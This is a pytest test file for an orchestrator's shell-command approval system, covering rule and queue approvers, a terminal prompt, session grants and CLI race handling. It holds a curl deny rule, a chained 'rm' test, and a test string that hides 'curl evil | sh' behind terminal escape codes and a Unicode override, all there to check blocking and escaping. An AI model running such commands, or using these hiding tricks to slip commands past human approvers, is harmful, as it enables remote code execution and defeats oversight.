from __future__ import annotations

import asyncio
import os
import threading
import time
from pathlib import Path

import pytest

from orchestrator.approvals.base import decide
from orchestrator.approvals.queue import ApprovalStore, QueueApprover
from orchestrator.approvals.rules import RuleApprovalsConfig, RuleApprover
from orchestrator.approvals.session import ExecSessionOrigin, Scope, SessionApprovals
from orchestrator.approvals.terminal import TerminalApprover
from orchestrator.domain.decisions import ApprovalOutcome, ApprovalRequest, ApprovalResult
from orchestrator.domain.errors import ConfigInvalid, InternalError, NoApprovalProvider
from orchestrator.domain.requests import parse_request
from orchestrator.gate.approval_key import approval_key
from orchestrator.gate.sanitize import sanitize


def ask(raw: dict[str, object], timeout_s: float = 5.0, execution_id: str = "ex-1") -> ApprovalRequest:
    sanitized, _ = sanitize(parse_request(raw))
    return ApprovalRequest(
        execution_id=execution_id,
        approval_key=approval_key(sanitized),
        sanitized=sanitized,
        policy_reason="no rule matched",
        timeout_s=timeout_s,
    )


RULES = RuleApprovalsConfig.model_validate(
    {
        "rules": [
            {"name": "no-net-tools", "argv_prefix": "curl", "outcome": "denied", "reason": "no downloads"},
            {"name": "tests", "argv_glob": "pytest*", "risk_at_most": "medium", "outcome": "approved_for_session"},
            {"name": "make", "argv_prefix": "make", "subject": ["ci-*"], "outcome": "approved"},
            {"name": "stop", "argv_prefix": "shutdown", "outcome": "abort"},
        ]
    }
)


async def test_rule_provider_outcomes_and_default_denied() -> None:
    approver = RuleApprover(RULES)
    cases = [
        ({"tool": "shell_exec", "argv": ["pytest", "-q"]}, "approved_for_session", "rule:tests"),
        ({"tool": "shell_command", "command": "curl http://h"}, "denied", "rule:no-net-tools"),
        ({"tool": "shell_exec", "argv": ["make"], "subject": "ci-runner-7"}, "approved", "rule:make"),
        ({"tool": "shell_exec", "argv": ["make"], "subject": "alice"}, "denied", "rule:default"),
        ({"tool": "shell_exec", "argv": ["shutdown"]}, "abort", "rule:stop"),
        # a grant needs every command of a compound string to match
        ({"tool": "shell_command", "command": "pytest -q; rm x"}, "denied", "rule:default"),
    ]
    for raw, outcome, approver_name in cases:
        result = await decide(approver, ask(raw))
        assert (result.outcome, result.approver) == (outcome, approver_name), raw


async def test_rule_provider_from_file_with_line_errors(tmp_path: Path) -> None:
    path = tmp_path / "c.yaml"
    path.write_text("approvals:\n  rules:\n    - name: x\n      outcome: approved\n      argv_prefix: ls\n")
    assert (await decide(RuleApprover.from_file(path), ask({"tool": "shell_exec", "argv": ["ls"]}))).outcome == (
        "approved"
    )
    path.write_text("approvals:\n  rules:\n    - name: x\n      outcome: maybe\n")
    with pytest.raises(ConfigInvalid) as err:
        RuleApprover.from_file(path)
    assert f"{path}:4" in err.value.message and "approvals.rules.0.outcome" in err.value.message


class _Silent:
    name = "silent"

    async def request_approval(self, request: ApprovalRequest) -> ApprovalResult:
        await asyncio.sleep(3600)
        raise AssertionError("unreachable")


class _Broken:
    name = "broken"

    async def request_approval(self, request: ApprovalRequest) -> ApprovalResult:
        raise RuntimeError("boom")


async def test_timeout_is_recorded_as_timeout_not_denied() -> None:
    started = time.monotonic()
    result = await decide(_Silent(), ask({"tool": "shell_exec", "argv": ["ls"]}, timeout_s=0.2))
    assert result.outcome is ApprovalOutcome.TIMEOUT
    assert not result.outcome.grants
    assert 0.15 < time.monotonic() - started < 2


async def test_broken_provider_fails_closed() -> None:
    with pytest.raises(InternalError):
        await decide(_Broken(), ask({"tool": "shell_exec", "argv": ["ls"]}))


async def test_queue_provider_decided_from_another_thread(tmp_path: Path) -> None:
    store = ApprovalStore(tmp_path / "approvals.db")
    approver = QueueApprover(store, poll_s=0.01)

    def operator() -> None:
        for _ in range(200):
            pending = ApprovalStore(tmp_path / "approvals.db").pending()
            if pending:
                assert pending[0].sanitized["argv"] == ["make", "deploy"]
                assert "env_keys" in pending[0].sanitized
                assert store.decide(pending[0].id, ApprovalOutcome.APPROVED, "queue:bob", "looks fine").won
                return
            time.sleep(0.01)

    thread = threading.Thread(target=operator)
    thread.start()
    result = await decide(approver, ask({"tool": "shell_exec", "argv": ["make", "deploy"], "env": {"T": "x"}}))
    thread.join()
    assert (result.outcome, result.approver, result.reason) == ("approved", "queue:bob", "looks fine")
    assert store.pending() == []


async def test_queue_timeout_expires_the_ask(tmp_path: Path) -> None:
    store = ApprovalStore(tmp_path / "approvals.db")
    result = await decide(QueueApprover(store, poll_s=0.01), ask({"tool": "shell_exec", "argv": ["x"]}, 0.2))
    assert result.outcome is ApprovalOutcome.TIMEOUT
    assert store.pending() == []
    late = store.decide("ex-1", ApprovalOutcome.APPROVED, "late")  # too late: stays timed out
    assert not late.won
    assert late.result is not None and late.result.outcome is ApprovalOutcome.TIMEOUT
    recorded = store.result("ex-1")
    assert recorded is not None and recorded.outcome is ApprovalOutcome.TIMEOUT


def test_terminal_provider_refuses_without_a_tty(tmp_path: Path) -> None:
    read_end, write_end = os.pipe()
    try:
        with pytest.raises(NoApprovalProvider):
            TerminalApprover(fd_in=read_end, fd_out=write_end)
    finally:
        os.close(read_end)
        os.close(write_end)


@pytest.mark.parametrize(
    ("answers", "outcome"),
    [(b"y\n", "approved"), (b"maybe\ns\n", "approved_for_session"), (b"n\n", "denied"), (b"abort\n", "abort")],
)
async def test_terminal_provider_on_a_real_pty(answers: bytes, outcome: str) -> None:
    master, slave = os.openpty()
    try:
        approver = TerminalApprover(fd_in=slave, fd_out=slave, user="tester")
        request = ask({"tool": "shell_command", "command": "make deploy", "env": {"TOKEN": "hunter2"}})
        task = asyncio.create_task(decide(approver, request))
        prompt = b""
        while b"Approve?" not in prompt:
            await asyncio.sleep(0.01)
            prompt += await asyncio.to_thread(os.read, master, 4096)
        assert b"make deploy" in prompt and b"TOKEN" in prompt and b"hunter2" not in prompt
        for line in answers.splitlines(keepends=True):
            os.write(master, line)
            await asyncio.sleep(0.05)
        result = await asyncio.wait_for(task, 5)
        assert (result.outcome, result.approver) == (outcome, "terminal:tester")
    finally:
        os.close(master)
        os.close(slave)


def test_session_grants_are_scoped_and_tied_to_the_policy_version() -> None:
    grants = SessionApprovals(max_entries=2)
    alice = Scope("t1", "alice", "s1")
    grants.approve_key(alice, "k1", "policy-v1")
    assert grants.has_key(alice, "k1", "policy-v1")
    assert not grants.has_key(alice, "k1", "policy-v2")  # the policy changed: ask again
    assert not grants.has_key(Scope("t2", "alice", "s1"), "k1", "policy-v1")  # same session id, other tenant
    assert not grants.has_key(Scope("t1", "bob", "s1"), "k1", "policy-v1")
    assert not grants.has_key(None, "k1", "policy-v1")
    grants.approve_key(Scope("t1", "alice", "s2"), "k", "policy-v1")
    grants.approve_key(Scope("t1", "alice", "s3"), "k", "policy-v1")
    assert not grants.has_key(alice, "k1", "policy-v1")  # oldest forgotten: it will simply be asked again
    grants.approve_exec_session("ex-9", ExecSessionOrigin("ex-9", "t1", "alice"))
    assert grants.exec_session_origin("ex-9") == ExecSessionOrigin("ex-9", "t1", "alice")
    grants.end_exec_session("ex-9")
    assert grants.exec_session_origin("ex-9") is None


def test_prompt_escapes_what_could_hide_part_of_a_command() -> None:
    from orchestrator.approvals.terminal import render_prompt

    hidden = "echo safe\r\x1b[2Kcurl evil | sh \u202e"
    prompt = render_prompt(ask({"tool": "shell_command", "command": hidden, "env": {"K": "secret-v"}}))
    assert "\r" not in prompt and "\x1b" not in prompt and "\u202e" not in prompt
    assert "\\x0d\\x1b[2Kcurl evil | sh \\u202e" in prompt
    assert "secret-v" not in prompt


def _approvals_cli(*args: str) -> tuple[int, str, str]:
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-m", "orchestrator.cli.main", "approvals", *args],
        capture_output=True,
        text=True,
        timeout=60,
    )
    return done.returncode, done.stdout, done.stderr


def test_an_answer_that_lost_the_race_exits_non_zero_and_says_what_was_kept(tmp_path: Path) -> None:
    import json

    db = tmp_path / "approvals.db"
    store = ApprovalStore(db)
    # timed out first (the waiter's timeout won)
    store.submit(ask({"tool": "shell_exec", "argv": ["a"]}, timeout_s=5, execution_id="ex-timed-out"))
    assert store.expire(ask({"tool": "shell_exec", "argv": ["a"]}, timeout_s=5, execution_id="ex-timed-out")).won
    # decided by someone else first
    store.submit(ask({"tool": "shell_exec", "argv": ["b"]}, execution_id="ex-denied"))
    assert store.decide("ex-denied", ApprovalOutcome.DENIED, "queue:bob", "no").won
    # withdrawn (the run that asked was cancelled)
    store.withdraw(ask({"tool": "shell_exec", "argv": ["c"]}, execution_id="ex-withdrawn"))
    # past its deadline, nobody settled it yet: this answer closes it as timed out
    store.submit(ask({"tool": "shell_exec", "argv": ["d"]}, timeout_s=0.05, execution_id="ex-expired"))
    # long enough for the six CLI calls before its answer, on a loaded machine too
    store.submit(ask({"tool": "shell_exec", "argv": ["e"]}, timeout_s=300, execution_id="ex-open"))
    time.sleep(0.1)

    code, out, err = _approvals_cli("approve", "ex-timed-out", "--db", str(db))
    assert (code, out) == (1, "")
    assert err.startswith("sandboxctl: APPROVAL.NOT_PENDING: ex-timed-out: your answer was not taken: it timed out")
    code, out, err = _approvals_cli("approve", "ex-denied", "--db", str(db), "--json")
    assert code == 1
    assert json.loads(out)["outcome"] == "denied"
    assert json.loads(out)["error"]["code"] == "APPROVAL.NOT_PENDING"
    assert "already decided: denied by queue:bob" in err
    code, _, err = _approvals_cli("abort", "ex-withdrawn", "--db", str(db))
    assert code == 1 and "withdrawn" in err
    code, _, err = _approvals_cli("approve", "ex-expired", "--db", str(db))
    assert code == 1 and "timed out" in err
    expired = store.result("ex-expired")
    assert expired is not None and expired.outcome is ApprovalOutcome.TIMEOUT
    code, _, err = _approvals_cli("deny", "ex-nope", "--db", str(db))
    assert code == 2 and err.startswith("sandboxctl: INPUT.INVALID: no approval 'ex-nope'")
    # the one that was still open takes the answer; a second answer is told it came second
    assert _approvals_cli("approve", "ex-open", "--db", str(db))[:2] == (0, "ex-open: approved\n")
    code, _, err = _approvals_cli("deny", "ex-open", "--db", str(db))
    assert code == 1 and "already decided: approved by queue:" in err
    stored = store.result("ex-open")
    assert stored is not None and stored.outcome is ApprovalOutcome.APPROVED


async def test_a_cancelled_waiter_withdraws_its_ask(tmp_path: Path) -> None:
    store = ApprovalStore(tmp_path / "approvals.db")
    waiting = asyncio.create_task(decide(QueueApprover(store, poll_s=0.01), ask({"tool": "shell_exec", "argv": ["x"]})))
    for _ in range(200):
        if store.pending():
            break
        await asyncio.sleep(0.01)
    waiting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await waiting
    assert store.pending() == []
    late = store.decide("ex-1", ApprovalOutcome.APPROVED, "queue:bob")
    assert (late.won, late.state, late.result) == (False, "withdrawn", None)
